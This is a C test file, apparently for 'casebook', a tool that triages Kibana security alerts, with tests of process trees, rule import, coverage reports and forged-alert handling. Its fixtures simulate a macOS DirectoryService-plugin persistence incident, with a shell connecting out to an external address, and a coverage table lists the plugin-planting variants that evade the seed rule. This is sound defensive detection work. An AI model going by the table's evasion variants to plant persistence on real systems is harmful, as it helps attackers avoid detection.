					cols = 0, lines++;
				} else if (*c != '\r' && ((unsigned char)*c & 0xC0) != 0x80) {
					cols++;
				}
			}
			assert_true(lines > 5);
		}
		assert_int_equal(tu_run(&out, &err,
		                        "script -qec \"stty cols 80 rows 24; %s --db '%s' alerts\" /dev/null",
		                        tu_casebook(), tu_path("v.db")),
		                 0);
		assert_memory_equal(
		    out.buf, "ALERT         SEVERITY  TIME (UTC)      HOST          RULE            FILE / PR…",
		    strlen("ALERT         SEVERITY  TIME (UTC)      HOST          RULE            FILE / PR…"));
		assert_non_null(
		    strstr(out.buf, "  critical  11-20 08:05:29  mac-lisbon-…  DirectoryServ…  /Lib…eSync\r\n"));
	}
	assert_int_equal(CB("v.db", "alerts --sort sideways"), 64);
	/* the process tree (Kibana's Analyzer): the writer's parent as the writer's own event names
	 * it (Finder, pid 388; other children of the same entity id say zsh), the writer, what it
	 * started; in a UTF-8 locale and with LANG=C */
	assert_int_equal(
	    tu_run(&out, &err, "LC_ALL=C.UTF-8 %s --db '%s' tree %s", tu_casebook(), tu_path("v.db"), prefix), 0);
	const char *want_tree = "  Finder (pid 388)  /System/Library/CoreServices/Finder.app/Contents/MacOS/Finder\n"
	                        "▶ └─ ZoomUpdate (pid 745) amara 2026-11-20T08:05:28Z [2 alerts]  ";
	assert_memory_equal(out.buf, want_tree, strlen(want_tree));
	assert_non_null(
	    strstr(out.buf, "\n     ├─ mv (pid 746) root 2026-11-20T08:05:29Z [2 alerts]  mv /private/tmp/"));
	assert_non_null(
	    strstr(out.buf, "\n     └─ launchctl (pid 747) root 2026-11-20T08:05:30Z  launchctl kickstart"));
	assert_int_equal(
	    tu_run(&out, &err, "LANG=C LC_ALL=C %s --db '%s' tree %s", tu_casebook(), tu_path("v.db"), prefix), 0);
	assert_non_null(strstr(out.buf, "\n> `- ZoomUpdate (pid 745) amara 2026-11-20T08:05:28Z [2 alerts]  "));
	assert_non_null(strstr(out.buf, "\n     |- mv (pid 746) root"));
	assert_non_null(strstr(out.buf, "\n     `- launchctl (pid 747) root"));
	assert_null(strstr(out.buf, "─"));
	assert_int_equal(CB("v.db", "tree %s --json", prefix), 0);
	assert_int_equal(tu_count(out.buf, "\"depth\":-1,"), 1);
	assert_int_equal(tu_count(out.buf, "\"depth\":0,"), 1);
	assert_int_equal(tu_count(out.buf, "\"depth\":1,"), 2);
	assert_int_equal(tu_count(out.buf, "\"described_by\":\"child\""), 1); /* Finder */
	assert_int_equal(tu_count(out.buf, "\"described_by\":\"own\""), 3);
	assert_int_equal(CB("v.db", "tree nope-no-such"), 1);
	assert_int_equal(CB("v.db", "timeline %s --before 1s --after 5s", prefix), 0);
	/* the connection the shell made shows its address, not the shell's path again */
	assert_non_null(strstr(out.buf, "network/connection_attempted  sh                → 203.0.113.77:80\n"));
	/* both versions side by side */
	assert_int_equal(CB("v.db", "rules enable 89fa6cb7-6b53-4de2-b604-648488841ab8 --version 111"), 0);
	assert_string_equal(out.buf, "89fa6cb7-6b53-4de2-b604-648488841ab8 version 111 enabled\n");
	assert_int_equal(CB("v.db", "rules disable 1a8374da-5e3d-5443-9b59-b7491219a039"), 0);
	assert_string_equal(out.buf, "1a8374da-5e3d-5443-9b59-b7491219a039: 1 version disabled\n");
	assert_int_equal(CB("v.db", "coverage"), 0);
	assert_string_equal(out.buf, "Rules (enabled):\n"
	                             "  R1  Persistence via DirectoryService Plugin Modification v107\n"
	                             "  R2  Persistence via DirectoryService Plugin Modification v111\n"
	                             "  R3  DirectoryService Plugin Helper Started a Process (casebook companion) v1\n"
	                             "  R4  DirectoryService Plugin Installed Then Run (casebook companion) v1\n"
	                             "  R5  Write Below the DirectoryService PlugIns Folder (casebook companion) v1\n"
	                             "\n"
	                             "TECHNIQUE                                        R1   R2   R3   R4   R5   ANY\n"
	                             "plain file named X.dsplug (Elastic's own test)   yes  yes  -    -    yes  yes\n"
	                             "bundle copied in with cp -R                      -    -    -    -    yes  yes\n"
	                             "bundle written in place by a script              -    -    -    -    yes  yes\n"
	                             "bundle moved in with mv (a rename)               yes  -    -    -    yes  yes\n"
	                             "installer package unpacks a bundle               -    -    -    -    yes  yes\n"
	                             "binary replaced inside an existing plugin        -    -    -    -    yes  yes\n"
	                             "upper-case suffix X.DSPLUG                       -    -    -    -    yes  yes\n"
	                             "loaded plugin starts a process                   -    -    yes  -    -    yes\n"
	                             "bundle copied in, then loaded: starts a process  -    -    yes  yes  yes  yes\n");
	/* with only the seed rule's versions, the blind spots show */
	for (size_t i = 0; tu_companion_rules[i]; i++)
		assert_int_equal(CB("v.db", "rules disable %s", tu_companion_rules[i]), 0);
	assert_int_equal(CB("v.db", "coverage --json"), 0);
	assert_string_equal(
	    out.buf,
	    "{\"rules\":[{\"rule_id\":\"89fa6cb7-6b53-4de2-b604-648488841ab8\",\"version\":107,\"enabled\":true,"
	    "\"name\":\"Persistence via DirectoryService Plugin Modification\"},{\"rule_id\":"
	    "\"89fa6cb7-6b53-4de2-b604-648488841ab8\",\"version\":111,\"enabled\":true,\"name\":\"Persistence via "
	    "DirectoryService Plugin Modification\"}],\"techniques\":["
	    "{\"id\":\"plain-file\",\"name\":\"plain file named X.dsplug (Elastic's own test)\",\"caught_by\":["
	    "{\"rule_id\":\"89fa6cb7-6b53-4de2-b604-648488841ab8\",\"version\":107},"
	    "{\"rule_id\":\"89fa6cb7-6b53-4de2-b604-648488841ab8\",\"version\":111}]},"
	    "{\"id\":\"copy-bundle\",\"name\":\"bundle copied in with cp -R\",\"caught_by\":[]},"
	    "{\"id\":\"write-in-place\",\"name\":\"bundle written in place by a script\",\"caught_by\":[]},"
	    "{\"id\":\"move-bundle\",\"name\":\"bundle moved in with mv (a rename)\",\"caught_by\":["
	    "{\"rule_id\":\"89fa6cb7-6b53-4de2-b604-648488841ab8\",\"version\":107}]},"
	    "{\"id\":\"installer-package\",\"name\":\"installer package unpacks a bundle\",\"caught_by\":[]},"
	    "{\"id\":\"replace-binary\",\"name\":\"binary replaced inside an existing plugin\",\"caught_by\":[]},"
	    "{\"id\":\"upper-case-suffix\",\"name\":\"upper-case suffix X.DSPLUG\",\"caught_by\":[]},"
	    "{\"id\":\"loader-starts-process\",\"name\":\"loaded plugin starts a process\",\"caught_by\":[]},"
	    "{\"id\":\"copy-then-run\",\"name\":\"bundle copied in, then loaded: starts a process\","
	    "\"caught_by\":[]}]}\n");
	assert_int_equal(CB("v.db", "coverage"), 0);
	assert_non_null(strstr(out.buf, "\n7 techniques are caught by no enabled rule.\n"));
	/* a rule with no enabled version: detect says how to run one */
	assert_int_equal(CB("v.db", "rules disable 89fa6cb7-6b53-4de2-b604-648488841ab8"), 0);
	assert_string_equal(out.buf, "89fa6cb7-6b53-4de2-b604-648488841ab8: 2 versions disabled\n");
	assert_int_equal(CB("v.db", "detect --rule 89fa6cb7-6b53-4de2-b604-648488841ab8"), 0);
	assert_string_equal(err.buf,
	                    "casebook detect: no version of 89fa6cb7-6b53-4de2-b604-648488841ab8 is enabled; run "
	                    "one with --version N ('casebook rules' lists them)\n");
	/* with no case yet, the bundled pack as a new case has it */
	assert_int_equal(CB("no-such-case.db", "coverage"), 0);
	assert_non_null(
	    strstr(out.buf, "  R5  Write Below the DirectoryService PlugIns Folder (casebook companion) v1\n"));
	assert_int_equal(CB("v.db", "coverage --bogus"), 64);
}

/* cli_main in this process (the CLI is a library now: casebook.c holds main only), with stdout
 * and stderr captured in files. */
static int cli_in_process(struct strbuf *o, struct strbuf *e, char **argv)
{
	int argc = 0;
	while (argv[argc])
		argc++;
	fflush(stdout);
	fflush(stderr);
	int saved_out = dup(1), saved_err = dup(2);
	char out_path[512], err_path[512];
	snprintf(out_path, sizeof(out_path), "%s", tu_path("inproc.out"));
	snprintf(err_path, sizeof(err_path), "%s", tu_path("inproc.err"));
	FILE *fo = fopen(out_path, "w"), *fe = fopen(err_path, "w");
	assert_non_null(fo);
	assert_non_null(fe);
	dup2(fileno(fo), 1);
	dup2(fileno(fe), 2);
	int rc = cli_main(argc, argv);
	fflush(stdout);
	fflush(stderr);
	dup2(saved_out, 1);
	dup2(saved_err, 2);
	close(saved_out);
	close(saved_err);
	fclose(fo);
	fclose(fe);
	struct strbuf *bufs[] = {o, e};
	const char *paths[] = {out_path, err_path};
	for (int i = 0; i < 2; i++) {
		strbuf_reset(bufs[i]);
		FILE *f = fopen(paths[i], "r");
		assert_non_null(f);
		assert_int_equal(strbuf_read_stream(bufs[i], f), 0);
		fclose(f);
	}
	return rc;
}

/* rules import parses every query: one that does not parse is skipped and named with its
 * column (exit 2); one Elasticsearch runs and casebook cannot yet is stored, marked why. */
static void test_rules_import_validates_queries(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("q.ndjson"),
	    "{\"rule_id\":\"x\",\"name\":\"n\",\"description\":\"d\",\"type\":\"eql\",\"language\":\"eql\","
	    "\"query\":\"process where (\",\"severity\":\"low\",\"risk_score\":1}\n"
	    "{\"rule_id\":\"y\",\"name\":\"m\",\"description\":\"d\",\"type\":\"query\",\"language\":\"kuery\","
	    "\"query\":\"a:(b\",\"severity\":\"low\",\"risk_score\":1}\n"
	    "{\"rule_id\":\"z\",\"name\":\"s\",\"description\":\"d\",\"type\":\"eql\",\"language\":\"eql\","
	    "\"query\":\"process where true\",\"timestamp_field\":\"event.created\",\"severity\":\"low\","
	    "\"risk_score\":1}\n");
	assert_int_equal(CB("q.db", "rules import '%s'", tu_path("q.ndjson")), 2);
	assert_string_equal(out.buf, "3 rules: 1 added, 0 updated, 0 unchanged, 2 invalid; 0 exception lists, 0 items\n"
	                             "1 of them are of a type or language detect does not run yet: 'casebook rules' "
	                             "says why\n");
	char want[2000];
	snprintf(want, sizeof(want),
	         "%s:1: skipped: rule \"n\" (x): the EQL query does not parse at column 16: the query ends where a "
	         "value was expected\n"
	         "%s:2: skipped: rule \"m\" (y): the KQL query does not parse at column 5: expected ')' or 'and', 'or' "
	         "but the query ended\n"
	         "%s:3: rule \"s\" (z) stored but detect will skip it: timestamp_field \"event.created\" is "
	         "not supported (@timestamp is)\n",
	         tu_path("q.ndjson"), tu_path("q.ndjson"), tu_path("q.ndjson"));
	assert_string_equal(err.buf, want);
	/* detect on that rule alone: it did not run, and the exit status says so */
	assert_int_equal(CB("q.db", "detect --rule z"), 1);
	assert_string_equal(out.buf, "0 rules: 0 executions replayed, 0 events matched, 0 alerts created, 0 duplicates "
	                             "skipped, 0 executions hit max_signals\n1 rule skipped (see above)\n");
	assert_string_equal(err.buf, "skipping rule \"s\" (z v1): timestamp_field \"event.created\" is not supported "
	                             "(@timestamp is)\n");
}

/* Numbers are copied as written: cJSON's doubles rounded 131762381484502110 to
 * 1.3176238148450211e+17 in the alert document and in every export of it. */
/* Alerts Kibana raised, exported beside their events: stored as alerts "kibana:" and Kibana's
 * uuid (named by either), with their rule, status (audited as Kibana's) and source event; never
 * detected on again; their status goes back to Kibana, under its uuid, as the body of its
 * status API. */
static void test_kibana_alerts_are_triaged_and_go_back(void **state)
{
	(void)state;
	assert_int_equal(CB("k.db", "ingest tests/fixtures/kibana-alerts.ndjson"), 0);
	assert_string_equal(out.buf, "3 documents: 3 added, 0 duplicate, 0 rejected\n"
	                             "2 Kibana alerts: 2 added, 0 known already, 0 skipped\n");
	assert_int_equal(CB("k.db", "alerts --sort severity"), 0);
	assert_non_null(strstr(out.buf, "\nkibana:k-ale  open          high       73  2024-05-01T10:06:00Z  mac1    "));
	assert_non_null(strstr(out.buf, "\nkibana:k-ale  closed        medium     47  2024-05-01T10:00:00Z  mac1    "));
	assert_int_equal(CB("k.db", "audit --verify"), 0);
	assert_int_equal(CB("k.db", "audit k-alert-1"), 0);
	assert_non_null(
	    strstr(out.buf, "kibana:k-ale  kibana:jo     status: open → closed (false_positive): status imported from "
	                    "Kibana"));
	assert_int_equal(CB("k.db", "audit kibana:k-alert-1"), 0);
	assert_non_null(strstr(out.buf, "kibana:jo     status: open → closed (false_positive)"));
	/* the analyst who imports is never taken for Kibana's user, nor Kibana's for an analyst */
	assert_int_equal(CB("k.db", "--analyst kibana:jo status k-alert-2 acknowledged"), 64);
	assert_non_null(strstr(err.buf, "an analyst's name may not start with kibana:"));
	/* its source event is the alert's: the timeline marks it */
	assert_int_equal(CB("k.db", "timeline k-alert-1"), 0);
	assert_int_equal(tu_count(out.buf, "\n> "), 1); /* under the header */
	assert_memory_equal(strchr(out.buf, '\n') + 1, "> 2024-05-01T10:00:00.000000Z  mac1", 35);
	/* detection sees the event once (the seed rule), not the alert documents that copy it */
	assert_int_equal(CB("k.db", "detect --rule 89fa6cb7-6b53-4de2-b604-648488841ab8"), 0);
	assert_non_null(strstr(out.buf, " 1 events matched, 1 alerts created,"));
	/* the same file again: nothing new */
	assert_int_equal(CB("k.db", "ingest tests/fixtures/kibana-alerts.ndjson"), 0);
	assert_string_equal(out.buf, "3 documents: 0 added, 3 duplicate, 0 rejected\n");
	assert_int_equal(CB("k.db", "status k-alert-2 acknowledged"), 0);
	assert_int_equal(CB("k.db", "export k-alert-1 k-alert-2 --format kibana-status"), 0);
	assert_string_equal(out.buf,
	                    "[{\"signal_ids\":[\"k-alert-1\"],\"status\":\"closed\",\"reason\":\"false_positive\"},"
	                    "{\"signal_ids\":[\"k-alert-2\"],\"status\":\"acknowledged\"}]\n");
	/* the host's alerts as one case: Kibana's by status, the one casebook raised said on stderr */
	assert_int_equal(CB("k.db", "export --host mac1 --format kibana-status"), 0);
	assert_string_equal(out.buf,
	                    "[{\"signal_ids\":[\"k-alert-1\"],\"status\":\"closed\",\"reason\":\"false_positive\"},"
	                    "{\"signal_ids\":[\"k-alert-2\"],\"status\":\"acknowledged\"}]\n");
	assert_memory_equal(err.buf, "casebook export: 1 alert raised by casebook, not Kibana (", 57);
	assert_non_null(strstr(err.buf, "), is not in the kibana-status body: Kibana has no such alert\n"));
	assert_int_equal(CB("k.db", "export --rule custom-1 --format kibana-status"), 0);
	assert_string_equal(out.buf, "{\"signal_ids\":[\"k-alert-2\"],\"status\":\"acknowledged\"}\n");
	assert_int_equal(CB("k.db", "export --rule 'A custom rule' --status acknowledged --format kibana-status"), 0);
	assert_string_equal(out.buf, "{\"signal_ids\":[\"k-alert-2\"],\"status\":\"acknowledged\"}\n");
	assert_int_equal(CB("k.db", "export --host nope"), 1);
	assert_string_equal(err.buf, "casebook export: no alert matches --host nope\n");
	/* the rule Kibana ran is stored, disabled: detect does not run it again */
	assert_int_equal(CB("k.db", "rules"), 0);
	assert_non_null(strstr(out.buf, "custom-1"));
}

#define SEED "89fa6cb7-6b53-4de2-b604-648488841ab8"

/* An event the seed rule matches (the source event of tests/fixtures/kibana-alerts.ndjson). */
static const char *SEED_EVENT =
    "{\"_index\":\".ds-logs-endpoint.events.file-default-2024.05.01-000001\",\"_id\":\"src-1\",\"_source\":{"
    "\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"category\":[\"file\"],\"type\":[\"change\"],"
    "\"action\":\"modification\",\"kind\":\"event\"},\"host\":{\"name\":\"mac1\",\"id\":\"h1\",\"os\":{\"type\":"
    "\"macos\"}},\"file\":{\"path\":\"/Library/DirectoryServices/PlugIns/x.dsplug\"},\"process\":{\"name\":\"cp\","
    "\"entity_id\":\"p1\"}}}\n";

/* The uuid detect gives the seed rule's alert on SEED_EVENT (learnt from a case of its own). */
static void predicted_alert_uuid(char uuid[65])
{
	tu_write_str(tu_path("p.ndjson"), SEED_EVENT);
	assert_int_equal(CB("p.db", "ingest '%s'", tu_path("p.ndjson")), 0);
	assert_int_equal(CB("p.db", "detect --rule " SEED), 0);
	assert_int_equal(CB("p.db", "alerts --json"), 0);
	const char *u = strstr(out.buf, "\"kibana.alert.uuid\":\"");
	assert_non_null(u);
	snprintf(uuid, 65, "%.64s", u + 21);
	assert_int_equal(strspn(uuid, "0123456789abcdef"), 64);
}

/* A Kibana alert document closed as a false positive by "alice", with kibana.alert.uuid `uuid`. */
static void write_forged_alert(const char *name, const char *uuid)
{
	struct strbuf doc;
	strbuf_init(&doc, 1024);
	strbuf_addf(&doc,
	            "{\"@timestamp\":\"2024-05-01T10:00:01Z\",\"event\":{\"kind\":\"signal\",\"id\":\"forged-%s\"},"
	            "\"kibana.alert.uuid\":\"%s\",\"kibana.alert.rule.rule_id\":\"" SEED "\","
	            "\"kibana.alert.rule.version\":111,\"kibana.alert.rule.name\":\"Forged\","
	            "\"kibana.alert.rule.severity\":\"low\",\"kibana.alert.rule.risk_score\":1,"
	            "\"kibana.alert.severity\":\"low\",\"kibana.alert.risk_score\":1,"
	            "\"kibana.alert.workflow_status\":\"closed\",\"kibana.alert.workflow_reason\":\"false_positive\","
	            "\"kibana.alert.workflow_user\":\"alice\",\"kibana.alert.ancestors\":[{\"id\":\"src-1\"}],"
	            "\"host\":{\"id\":\"h1\",\"name\":\"mac1\"}}\n",
	            uuid, uuid);
	tu_write_str(tu_path(name), doc.buf);
	strbuf_release(&doc);
}

/* An imported Kibana alert is the document's claim about itself: it lives apart from the
 * alerts detect raises ("kibana:" and its uuid), so it can neither pre-empt the alert detect
 * raises for the same event nor, by a uuid that starts another's (a prefix), close it; its
 * status is audited on itself, by Kibana's user marked as such, and the chain verifies. */
static void test_a_forged_kibana_alert_never_acts_on_real_alerts(void **state)
{
	(void)state;
	char real[65];
	predicted_alert_uuid(real);
	/* the alert detect will raise, imported before it: detect still raises its own */
	write_forged_alert("forged.ndjson", real);
	tu_write_str(tu_path("ev.ndjson"), SEED_EVENT);
	assert_int_equal(CB("f.db", "ingest '%s' '%s'", tu_path("ev.ndjson"), tu_path("forged.ndjson")), 0);
	assert_non_null(strstr(out.buf, "1 Kibana alerts: 1 added, 0 known already, 0 skipped\n"));
	assert_int_equal(CB("f.db", "detect --rule " SEED), 0);
	assert_non_null(strstr(out.buf, " 1 alerts created, 0 duplicates skipped,"));
	assert_int_equal(CB("f.db", "alerts --status open --json"), 0);
	assert_int_equal(tu_count(out.buf, "\n"), 1);
	assert_non_null(strstr(out.buf, real));
	assert_non_null(strstr(out.buf, "\"kibana.alert.severity\":\"medium\",\"kibana.alert.risk_score\":47,"));
	assert_int_equal(CB("f.db", "audit %s", real), 0);
	assert_null(strstr(out.buf, "alice"));
	assert_int_equal(CB("f.db", "audit kibana:%s", real), 0);
	assert_non_null(strstr(out.buf, "kibana:alice  status: open → closed (false_positive): status imported from "
	                                "Kibana"));
	assert_int_equal(CB("f.db", "audit --verify"), 0);
	/* after detect: one character of the real uuid names no other alert than its own */
	for (size_t n = 1; n <= 2; n++) {
		char prefix[3];
		snprintf(prefix, sizeof(prefix), "%.*s", (int)n, real);
		write_forged_alert("prefix.ndjson", prefix);
		assert_int_equal(CB("f.db", "ingest '%s'", tu_path("prefix.ndjson")), 0);
		assert_non_null(strstr(out.buf, "1 Kibana alerts: 1 added, 0 known already, 0 skipped\n"));
		assert_int_equal(CB("f.db", "alerts --status open"), 0);
		assert_int_equal(tu_count(out.buf, "\n"), 2); /* the header and the real alert */
		assert_int_equal(CB("f.db", "audit %s", real), 0);
		assert_null(strstr(out.buf, "alice"));
		assert_int_equal(CB("f.db", "audit --verify"), 0);
	}
	assert_int_equal(CB("f.db", "alerts --status closed"), 0);
	assert_int_equal(tu_count(out.buf, "\nkibana:"), 3);
	/* a document without Kibana's status, or with it nested: the alert is open, and says so */
	tu_write_str(
	    tu_path("nested.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T10:00:02Z\",\"event\":{\"kind\":\"signal\",\"id\":\"n1\"},"
	    "\"kibana\":{\"alert\":{\"uuid\":\"n1\",\"rule\":{\"rule_id\":\"r-n\",\"name\":\"N\","
	    "\"severity\":\"low\",\"risk_score\":5},\"workflow_status\":\"bogus\"}}}\n"
	    "{\"@timestamp\":\"2024-05-01T10:00:03Z\",\"event\":{\"kind\":\"signal\",\"id\":\"n2\"},"
	    "\"kibana.alert.uuid\":\"n2\",\"kibana.alert.rule.rule_id\":\"r-n\",\"kibana.alert.rule.name\":\"N\","
	    "\"kibana.alert.rule.severity\":\"low\",\"kibana.alert.rule.risk_score\":5}\n");
	assert_int_equal(CB("f.db", "ingest '%s'", tu_path("nested.ndjson")), 0);
	assert_non_null(strstr(out.buf, "2 Kibana alerts: 2 added, 0 known already, 0 skipped\n"));
	assert_int_equal(CB("f.db", "audit --verify"), 0);
	assert_int_equal(CB("f.db", "alerts --status open"), 0);
	assert_int_equal(tu_count(out.buf, "\nkibana:n"), 2);
}

/* A rule a Kibana alert brought along stands in until a rule is imported: the analyst's
 * import of the same rule_id and version replaces it whole (enabled as the file says, where
 * it stayed disabled and silently never ran), and an import that updates a rule says what it
 * changed. */
static void test_a_rule_an_alert_brought_never_shadows_an_import(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("ra.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T09:00:00Z\",\"event\":{\"kind\":\"signal\",\"id\":\"ra\"},"
	    "\"kibana.alert.uuid\":\"ra\",\"kibana.alert.rule.rule_id\":\"zsh-run\",\"kibana.alert.rule.version\":3,"
	    "\"kibana.alert.rule.name\":\"Forged\",\"kibana.alert.rule.severity\":\"low\","
	    "\"kibana.alert.rule.risk_score\":1,\"kibana.alert.rule.parameters\":{\"query\":\"process.name:none\"}}\n");
	tu_write_str(tu_path("ev.ndjson"), EVENTS);
	assert_int_equal(CB("ra.db", "ingest '%s' '%s'", tu_path("ev.ndjson"), tu_path("ra.ndjson")), 0);
	assert_non_null(strstr(out.buf, "1 Kibana alerts: 1 added"));
	tu_write_str(tu_path("zsh.json"),
	             "{\"rule_id\":\"zsh-run\",\"version\":3,\"name\":\"zsh ran\",\"description\":\"d\","
	             "\"type\":\"query\",\"query\":\"process.name:zsh\",\"severity\":\"high\","
	             "\"risk_score\":70,\"from\":\"now-1d\"}");
	assert_int_equal(CB("ra.db", "rules import '%s'", tu_path("zsh.json")), 0);
	assert_string_equal(out.buf,
	                    "1 rules: 0 added, 1 updated, 0 unchanged, 0 invalid; 0 exception lists, 0 items\n");
	char want[1000];
	snprintf(want, sizeof(want),
	         "%s: rule \"zsh ran\" (zsh-run v3) updated: it replaces the rule a Kibana alert brought (stored "
	         "disabled); enabled now\n",
	         tu_path("zsh.json"));
	assert_string_equal(err.buf, want);
	assert_int_equal(CB("ra.db", "rules"), 0);
	assert_non_null(strstr(out.buf, "zsh-run                               3        query    kuery     "
	                                "5m from now-1d    yes  zsh ran\n"));
	assert_int_equal(CB("ra.db", "detect --rule zsh-run"), 0);
	assert_non_null(strstr(out.buf, " 1 events matched, 1 alerts created,"));
	/* a later alert of that rule leaves the imported one as it is */
	tu_write_str(tu_path("ra2.ndjson"),
	             "{\"@timestamp\":\"2024-05-01T09:00:01Z\",\"event\":{\"kind\":\"signal\","
	             "\"id\":\"ra2\"},\"kibana.alert.uuid\":\"ra2\",\"kibana.alert.rule.rule_id\":"
	             "\"zsh-run\",\"kibana.alert.rule.version\":3,\"kibana.alert.rule.name\":\"F2\","
	             "\"kibana.alert.rule.severity\":\"low\",\"kibana.alert.rule.risk_score\":1}\n");
	assert_int_equal(CB("ra.db", "ingest '%s'", tu_path("ra2.ndjson")), 0);
	assert_int_equal(CB("ra.db", "rules"), 0);
	assert_non_null(strstr(out.buf, "  yes  zsh ran\n"));
	/* an update names the members that changed */
	tu_write_str(tu_path("zsh.json"),
	             "{\"rule_id\":\"zsh-run\",\"version\":3,\"name\":\"zsh ran\",\"description\":\"d\","
	             "\"type\":\"query\",\"query\":\"process.name:(zsh or bash)\",\"severity\":"
	             "\"medium\",\"risk_score\":70,\"from\":\"now-1d\",\"tags\":[\"t\"]}");
	assert_int_equal(CB("ra.db", "rules import '%s'", tu_path("zsh.json")), 0);
	snprintf(want, sizeof(want), "%s: rule \"zsh ran\" (zsh-run v3) updated: query, severity changed; tags added\n",
	         tu_path("zsh.json"));
	assert_string_equal(err.buf, want);
}

/* Nothing the analyst set on a rule is lost by an import: the same version imported again
 * keeps the exceptions list `exception add` attached (REPLACE detached it, and the alert it
 * holds back came again), and a new version of the rule takes it too. */
static void test_an_import_keeps_the_analysts_exceptions(void **state)
{
	(void)state;
	tu_write_str(tu_path("ev.ndjson"), EVENTS);
	assert_int_equal(CB("kx.db", "ingest '%s'", tu_path("ev.ndjson")), 0);
	const char *rule = "{\"rule_id\":\"zsh-x\",\"version\":1,\"name\":\"zsh x\",\"description\":\"d\",\"type\":"
	                   "\"query\",\"query\":\"process.name:zsh\",\"severity\":\"high\",\"risk_score\":70,"
	                   "\"from\":\"now-1d\"}";
	tu_write_str(tu_path("kx.json"), rule);
	assert_int_equal(CB("kx.db", "rules import '%s'", tu_path("kx.json")), 0);
	assert_int_equal(CB("kx.db", "exception add zsh-x --field host.name --value mac2 --confirm-broad"), 0);
	assert_int_equal(CB("kx.db", "rules import '%s'", tu_path("kx.json")), 0);
	assert_string_equal(out.buf,
	                    "1 rules: 0 added, 0 updated, 1 unchanged, 0 invalid; 0 exception lists, 0 items\n");
	char want[600];
	snprintf(want, sizeof(want),
	         "%s: rule \"zsh x\" (zsh-x v1) keeps the exceptions list casebook-zsh-x, which the file does not "
	         "name\n",
	         tu_path("kx.json"));
	assert_string_equal(err.buf, want);
	assert_int_equal(CB("kx.db", "detect --rule zsh-x"), 0);
	assert_non_null(strstr(out.buf, " 0 alerts created,"));
	assert_non_null(strstr(out.buf, "1 matching events were suppressed by exceptions\n"));
	/* version 2 of the rule: the list goes with it */
	tu_write_str(tu_path("kx2.json"),
	             "{\"rule_id\":\"zsh-x\",\"version\":2,\"name\":\"zsh x\",\"description\":\"d\","
	             "\"type\":\"query\",\"query\":\"process.name:zsh\",\"severity\":\"high\","
	             "\"risk_score\":70,\"from\":\"now-1d\"}");
	assert_int_equal(CB("kx.db", "rules import '%s'", tu_path("kx2.json")), 0);
	snprintf(want, sizeof(want),
	         "%s: rule \"zsh x\" (zsh-x v2) keeps the exceptions list casebook-zsh-x, which the file does not "
	         "name\n",
	         tu_path("kx2.json"));
	assert_string_equal(err.buf, want);
	assert_int_equal(CB("kx.db", "rules disable zsh-x --version 1"), 0);
	assert_int_equal(CB("kx.db", "detect --rule zsh-x"), 0);
	assert_non_null(strstr(out.buf, " 0 alerts created,"));
	assert_non_null(strstr(out.buf, "1 matching events were suppressed by exceptions\n"));
}

/* Numbers from documents are range-checked: a Kibana alert's risk score of 1e300 (stored as
 * -9223372036854775808) or 47.5 is refused, naming the field; a pid of 1e300 is no pid (the
 * process tree showed "pid 1"). */
static void test_numbers_from_documents_are_range_checked(void **state)
{
	(void)state;
	tu_write_str(
	    tu_path("risk.ndjson"),
	    "{\"@timestamp\":\"2024-05-01T09:00:00Z\",\"event\":{\"kind\":\"signal\",\"id\":\"r1\"},"
	    "\"kibana.alert.uuid\":\"r1\",\"kibana.alert.rule.rule_id\":\"r\",\"kibana.alert.rule.name\":\"R\","
	    "\"kibana.alert.rule.severity\":\"low\",\"kibana.alert.rule.risk_score\":1,"
	    "\"kibana.alert.risk_score\":1e300}\n"
	    "{\"@timestamp\":\"2024-05-01T09:00:00Z\",\"event\":{\"kind\":\"signal\",\"id\":\"r2\"},"
	    "\"kibana.alert.uuid\":\"r2\",\"kibana.alert.rule.rule_id\":\"r\",\"kibana.alert.rule.name\":\"R\","
	    "\"kibana.alert.rule.severity\":\"low\",\"kibana.alert.rule.risk_score\":1,"
	    "\"kibana.alert.risk_score\":47.5}\n");
	assert_int_equal(CB("num.db", "ingest '%s'", tu_path("risk.ndjson")), 0);
	assert_non_null(strstr(out.buf, "2 Kibana alerts: 0 added, 0 known already, 2 skipped\n"));
	assert_string_equal(err.buf, "Kibana alert kibana:r1: skipped: kibana.alert.risk_score must be a whole number "
	                             "from 0 to 100\n"
	                             "Kibana alert kibana:r2: skipped: kibana.alert.risk_score must be a whole number "
	                             "from 0 to 100\n");
	struct strbuf ev;
	strbuf_init(&ev, 512);
	strbuf_addstr(&ev, SEED_EVENT);
	char *at = strstr(ev.buf, "\"entity_id\"");
	assert_non_null(at);
	memmove(at + 12, at, strlen(at) + 1);
	memcpy(at, "\"pid\":1e300,", 12);
	tu_write_str(tu_path("pid.ndjson"), ev.buf);
	strbuf_release(&ev);
	assert_int_equal(CB("num.db", "ingest '%s'", tu_path("pid.ndjson")), 0);
	assert_int_equal(CB("num.db", "detect --rule " SEED), 0);
	assert_int_equal(CB("num.db", "alerts --json"), 0);
	const char *u = strstr(out.buf, "\"kibana.alert.uuid\":\"");
	assert_non_null(u);
	char uuid[65];
	snprintf(uuid, sizeof(uuid), "%.64s", u + 21);
	assert_int_equal(CB("num.db", "tree %s", uuid), 0);
	assert_non_null(strstr(out.buf, "cp"));
	assert_null(strstr(out.buf, "(pid"));
}

/* An index mapping decides how fields compare: an ip field matches CIDR blocks, a date field
 * instants, a multi-field's .text words; a file without a mapping is refused, saying why. */
static void test_mapping_import_types_fields(void **state)
{
	(void)state;
	tu_write_str(tu_path("m.json"),
	             "{\"logs-endpoint.events.network-default\": {\"mappings\": {\"properties\": {\"custom\": "
	             "{\"properties\": {\"addr\": {\"type\": \"ip\"}, \"when\": {\"type\": \"date\"}}}, "
	             "\"file\": {\"properties\": {\"path\": {\"type\": \"keyword\", \"fields\": {\"text\": "
	             "{\"type\": \"text\"}}}}}}}}}");
	tu_write_str(tu_path("m.ndjson"),
	             "{\"@timestamp\":\"2024-05-01T10:00:00Z\",\"event\":{\"id\":\"n1\",\"category\":\"network\"},"
	             "\"custom\":{\"addr\":\"10.1.2.3\",\"when\":\"2024-05-01T12:00:00+02:00\"},"
	             "\"file\":{\"path\":\"/Users/a/Secret Report.pdf\"}}\n");
	assert_int_equal(CB("m.db", "ingest '%s'", tu_path("m.ndjson")), 0);
	/* before: custom.addr is a keyword, so a CIDR block is a string that does not match */
